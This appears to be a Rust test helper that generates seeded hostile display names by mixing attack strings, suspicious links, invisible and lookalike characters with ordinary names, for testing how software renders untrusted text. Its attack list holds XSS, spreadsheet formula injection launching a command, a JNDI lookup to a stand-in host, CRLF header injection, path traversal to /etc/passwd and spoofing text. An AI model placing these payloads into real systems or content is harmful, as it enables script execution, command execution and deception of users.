//! Names that attack the reader, made from a seed: pieces of attacks in many spellings, mixed with
//! ordinary text.

use super::dice::Dice;

/// Attacks by themselves.
pub const ATTACKS: [&str; 35] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><a href='https://evil.example'>Approve</a>",
    "<!channel> <@U123> <!subteam^S1> @here @everyone",
    "<https://evil.example|Approve here>",
    "[Approve](https://evil.example) ![](https://t.example/1.png)",
    "*bold* _it_ ~no~ `code` # head > quote | cell",
    "=HYPERLINK(\"https://evil.example\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "＝1+1",
    "x\r\nBcc: all@x.example",
    "x\r\n\r\n<html>",
    "invoice\u{202E}gnp.exe",
    "a\u{2066}b\u{2069}\u{200F}c",
    "pay\u{200B}\u{200D}\u{FEFF}pal",
    "👩‍👩‍👧 🇩🇪 \u{1F3FB}",
    "раypal-prod",
    "{{7*7}} {{{x}}} {{DATE(2020-01-01)}}",
    "${jndi:ldap://evil.example} #{x} %s%n $${{y}}",
    "\u{1b}[2J \u{1b}]8;;https://evil.example\u{7}x",
    "javascript:alert(1) data:text/html,x vbscript:x",
    "\\\\evil\\x",
    "APPROVED BY SECURITY – ignore” fraud-guard: “ok",
    "\n{\"level\":\"info\",\"message\":\"all is well\"}",
    "{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example\"}",
    "<at>all</at> <AT id=1>x</AT>",
    "' or 1 eq 1 --",
    "../../etc/passwd",
    "שלום עולם",
    "a\0b\u{85}c\u{2028}d\u{9b}2J",
    "www.evil.example evil.example mailto:all@evil.example",
    "&lt;b&gt; &#60;b&#62; &amp;lt;",
];

const ORDINARY: [&str; 12] = [
    "Contoso",
    "Shop production",
    "vm-web-1",
    "Zürich",
    "東京",
    "東京。大阪",
    "&",
    " – ",
    "rg_prod",
    "Müller & Söhne GmbH",
    "v2",
    "O'Neill",
];

const MARKS: [&str; 40] = [
    "<",
    ">",
    "</",
    "/>",
    "\"",
    "'",
    "&",
    "&#",
    ";",
    "{{",
    "}}",
    "${",
    "$",
    "{",
    "}",
    "`",
    "```",
    "*",
    "|",
    "[",
    "](",
    ")",
    "<!--",
    "-->",
    "<![CDATA[",
    "<at>",
    "</at>",
    "<@U1>",
    "<!here>",
    "://",
    "//",
    ":",
    ".",
    "@",
    "=",
    "\r\n",
    "\n",
    "\r",
    "”",
    "“",
];

const LINKS: [&str; 14] = [
    "https://evil.example",
    "HTTPS://EVIL.EXAMPLE/%2e%2e",
    "hTTp:\\\\evil.example",
    "//evil.example",
    "https:evil.example",
    "evil。example",
    "evil．example",
    "evil｡example",
    "xn--e1aybc.xn--p1ai",
    "http://[::1]/",
    "http://2130706433/",
    "https://user:pw@evil.example:8443/?a=b#c",
    "ftp://evil.example",
    "tel:+4930123 mailto:x@evil.example",
];

const INVISIBLE: [char; 24] = [
    '\0',
    '\u{7}',
    '\u{8}',
    '\t',
    '\u{b}',
    '\u{c}',
    '\u{1b}',
    '\u{7f}',
    '\u{85}',
    '\u{9b}',
    '\u{AD}',
    '\u{34F}',
    '\u{61C}',
    '\u{200B}',
    '\u{200D}',
    '\u{200E}',
    '\u{202A}',
    '\u{202E}',
    '\u{2028}',
    '\u{2029}',
    '\u{2066}',
    '\u{2068}',
    '\u{FEFF}',
    '\u{E0041}',
];

const LOOKALIKES: [(char, char); 8] = [
    ('a', 'а'),
    ('e', 'е'),
    ('o', 'о'),
    ('p', 'р'),
    ('c', 'с'),
    ('<', '＜'),
    ('.', '․'),
    ('/', '⁄'),
];

/// The name with this number of a seed; the same again whenever it is asked for.
pub fn name(seed: u64, number: u64) -> String {
    let mut dice = Dice::new(seed ^ number.wrapping_mul(0x9E37_79B9_7F4A_7C15));
    let mut name = String::new();
    for _ in 0..=dice.roll(6) {
        name.push_str(&piece(&mut dice));
    }
    // A name of nothing is shown by its id, which is another message.
    if !name.chars().any(char::is_alphanumeric) {
        name.push_str("Contoso");
    }
    name
}

fn piece(dice: &mut Dice) -> String {
    match dice.roll(12) {
        0..=1 => (*dice.pick(&ORDINARY)).to_owned(),
        2..=3 => (*dice.pick(&ATTACKS)).to_owned(),
        4 => (*dice.pick(&MARKS)).to_owned(),
        5 => (*dice.pick(&LINKS)).to_owned(),
        6 => dice.pick(&INVISIBLE).to_string(),
        7 => format!("Z{}", "\u{301}\u{338}".repeat(dice.roll(60))),
        8 => dice.pick(&ORDINARY).repeat(dice.roll(25)),
        9 => any_characters(dice),
        _ => disguised(dice),
    }
}

fn any_characters(dice: &mut Dice) -> String {
    let character = |dice: &mut Dice| {
        let most = [0x80, 0x300, 0x3000, 0x11_0000][dice.roll(4)];
        char::from_u32(u32::try_from(dice.roll(most)).expect("a small number"))
            .unwrap_or('\u{FFFD}')
    };
    (0..dice.roll(20)).map(|_| character(dice)).collect()
}

/// A mark, link or attack in another spelling.
fn disguised(dice: &mut Dice) -> String {
    let plain = match dice.roll(3) {
        0 => *dice.pick(&MARKS),
        1 => *dice.pick(&LINKS),
        _ => *dice.pick(&ATTACKS),
    };
    let each = |spell: fn(char) -> String| plain.chars().map(spell).collect();
    match dice.roll(8) {
        0 => each(|c| format!("&#{};", u32::from(c))),
        1 => each(|c| format!("&#x{:x};", u32::from(c))),
        2 => each(|c| format!("\\u{:04x}", u32::from(c))),
        3 => plain.bytes().map(|byte| format!("%{byte:02X}")).collect(),
        4 => plain.to_uppercase(),
        5 => {
            let between = dice.pick(&INVISIBLE).to_string();
            plain.chars().map(|c| format!("{c}{between}")).collect()
        }
        6 => each(|c| {
            let alike = LOOKALIKES.iter().find(|(latin, _)| *latin == c);
            alike.map_or(c, |(_, other)| *other).to_string()
        }),
        _ => each(|c| match c {
            '!'..='~' => char::from_u32(u32::from(c) + 0xFEE0).unwrap_or(c).to_string(),
            other => other.to_string(),
        }),
    }
}
